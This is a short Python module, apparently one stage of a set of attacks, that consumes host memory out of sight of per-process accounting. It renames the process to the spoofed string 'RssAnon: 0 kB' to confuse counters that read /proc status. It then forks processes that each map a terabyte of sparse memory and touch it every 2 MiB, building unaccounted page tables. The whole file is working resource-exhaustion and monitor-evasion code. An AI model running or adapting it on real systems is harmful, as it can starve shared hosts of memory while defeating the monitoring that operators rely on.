"""Takes memory that counts for no process: page tables of sparse reads; and takes a name that a counter would read."""

import mmap
import os
import time

from attack_stage import LIBC, MIB

AT = "call"
TIB, NO_RESERVE = 1 << 40, 0x4000


def scatter():
    area = mmap.mmap(-1, TIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NO_RESERVE, mmap.PROT_READ)
    if hasattr(mmap, "MADV_NOHUGEPAGE"):
        area.madvise(mmap.MADV_NOHUGEPAGE)
    for place in range(0, TIB, 2 * MIB):
        area[place]


def attack():
    LIBC.prctl(15, b"RssAnon: 0 kB", 0, 0, 0)
    for _ in range(3):
        if os.fork() == 0:
            scatter()
            time.sleep(300)
    scatter()
    time.sleep(300)
